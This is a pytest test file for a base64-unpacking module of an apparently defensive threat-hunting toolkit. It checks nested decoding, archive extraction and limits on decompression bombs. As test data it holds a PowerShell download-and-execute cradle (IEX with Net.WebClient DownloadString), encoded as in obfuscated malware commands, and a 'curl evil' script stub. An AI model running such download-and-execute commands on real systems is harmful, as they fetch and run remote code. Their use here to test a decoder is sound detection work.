"""Base64 unpacking: each fault of the tool whose names it has, with the right answer."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import resource
import tarfile
import zipfile

import pandas as pd
import pytest

from graphhunt.errors import UsageError
from graphhunt.toolbox import base64unpack as b64


def code(content: bytes | str) -> str:
    return base64.b64encode(content.encode() if isinstance(content, str) else content).decode()


def tarred(mode: int, compress: bool = False) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if compress else "w:") as archive:
        info = tarfile.TarInfo("run.sh")
        info.size, info.mode = 9, mode
        archive.addfile(info, io.BytesIO(b"curl evil"))
    return buffer.getvalue()


def zipped(content: bytes, method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("in.txt", content)
    return buffer.getvalue()


def test_plain_text_stays_as_it_is() -> None:
    for text in ("plain", "plain words only", "", "C:\\Windows\\System32\\cmd.exe /c dir"):
        assert b64.unpack(text)[0] == text
        assert b64.unpack_items(text)[0] == text
        assert len(b64.unpack(text)[1]) == 0


def test_every_level_is_decoded_even_where_the_last_token_is_none() -> None:
    inner = code("the innermost secret")
    outer = code(f"{inner} and then notbase64!! word")
    text, rows = b64.unpack(f"start {outer} end")
    assert rows["decoded_string"].tolist() == [f"{inner} and then notbase64!! word", "the innermost secret"]
    assert rows["reference"].tolist() == ["(1)", "(1, 1)"]
    assert text.startswith("start <decoded")
    assert "the innermost secret</decoded> and then" in text
    assert text.endswith("</decoded> end")


def test_hashes_are_not_decoded() -> None:
    for name in ("md5", "sha1", "sha256"):
        digest = hashlib.new(name, b"x").hexdigest()
        assert b64.unpack(f"hash {digest}.")[0] == f"hash {digest}."


def test_powershells_utf16_is_read_without_being_told_and_ascii_is_not_spoilt_by_it() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
    token = code(command.encode("utf-16-le"))
    assert b64.unpack(f"powershell -enc {token}")[1]["decoded_string"].tolist() == [command]
    for wide in (False, True):
        assert b64.unpack(code("an even length!!"), utf16=wide)[1]["decoded_string"].tolist() == ["an even length!!"]


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_zips_of_either_kind_are_opened(method: int) -> None:
    rows = b64.unpack(code(zipped(b"inside a zip", method)))[1]
    assert rows[["file_name", "decoded_string"]].values.tolist() == [["unknown", ""], ["in.txt", "inside a zip"]]


@pytest.mark.parametrize("mode", [0o644, 0o777, 0o100777])
@pytest.mark.parametrize("compress", [False, True])
def test_tars_of_any_mode_are_opened_packed_or_not(mode: int, compress: bool) -> None:
    rows = b64.unpack(code(tarred(mode, compress)))[1]
    assert rows["file_name"].tolist() == ["unknown", "run.sh"]
    assert rows["decoded_string"].tolist()[1] == "curl evil"


def test_archives_in_archives_are_followed() -> None:
    inner = zipped(b"deepest", zipfile.ZIP_DEFLATED)
    rows = b64.unpack(code(zipped(inner, zipfile.ZIP_STORED)))[1]
    assert rows["decoded_string"].tolist() == ["", "", "deepest"]
    assert rows["reference"].tolist() == ["(1)", "(1, 1)", "(1, 1, 1)"]


def test_cut_and_damaged_archives_raise_nothing() -> None:
    whole = gzip.compress(b"the beginning " * 50, mtime=0)
    assert b64.get_items_from_gzip(whole[: len(whole) - 12])[1]["gzip_file"].startswith(b"the beginning")
    assert b64.get_items_from_gzip(b"\x1f\x8bnonsense") == ("gzip", {})
    assert b64.get_items_from_zip(b"PK\x03\x04nonsense") == ("zip", {})
    assert b64.get_items_from_tar(tarred(0o644)[:300]) == ("tar", {})
    for broken in (whole[:15], zipped(b"x" * 90, zipfile.ZIP_STORED)[:70]):
        b64.unpack(code(broken))


def test_a_bomb_is_opened_only_so_far() -> None:
    bomb = gzip.compress(bytes(200_000_000), mtime=0)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    _, items = b64.get_items_from_gzip(bomb)
    assert len(items["gzip_file"]) == 16_000_000
    b64.unpack(code(bomb))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400_000


def test_frames_may_have_null_cells_and_columns_with_blanks() -> None:
    data = pd.DataFrame({"command line": [code("hello world"), None, float("nan"), 7, "none"]}, index=[5, 6, 7, 8, 9])
    found = b64.unpack_df(data, "command line")
    assert found[["src_index", "decoded_string"]].values.tolist() == [[5, "hello world"]]
    assert set(b64.COLUMNS) < set(found.columns)
    with pytest.raises(UsageError, match="nope"):
        b64.unpack_df(data, "nope")
    with pytest.raises(UsageError, match="input_string"):
        b64.unpack_items()
    assert b64.unpack_items(data=data, column="command line")["src_index"].tolist() == [5]


def test_nothing_is_remembered_from_call_to_call() -> None:
    token = code("twice the same")
    assert [len(b64.unpack(f"x{'!' * i} {token}")[1]) for i in range(3)] == [1, 1, 1]
    assert len(b64.unpack("AAAABBBB+CCCDDDD/")[1]) == len(b64.unpack("AAAABBBB+CCCDDDD/")[1])


def test_the_url_safe_alphabet_is_known() -> None:
    secret = "?>?>?>~~~ ok"
    token = base64.urlsafe_b64encode(secret.encode()).decode()
    assert set(token) & set("-_")
    assert b64.unpack(f"t={token}")[1]["decoded_string"].tolist() == []  # `=` belongs to the alphabet of tokens
    assert b64.unpack(f"t {token}")[1]["decoded_string"].tolist() == [secret]


def test_positions_do_not_drift() -> None:
    words = [f"message number {i}" for i in range(20)]
    text, rows = b64.unpack(" | ".join(map(code, words)))
    assert rows["decoded_string"].tolist() == words
    assert [part.split(">")[1].split("<")[0] for part in text.split(" | ")] == words


def test_hashes_of_what_was_found() -> None:
    row = b64.unpack(code("hash me please"))[1].iloc[0]
    assert row["sha256"] == hashlib.sha256(b"hash me please").hexdigest() == row["file_hashes"]["sha256"]
    assert (row["input_bytes"], row["printable_bytes"][:5]) == (b"hash me please", "68 61")
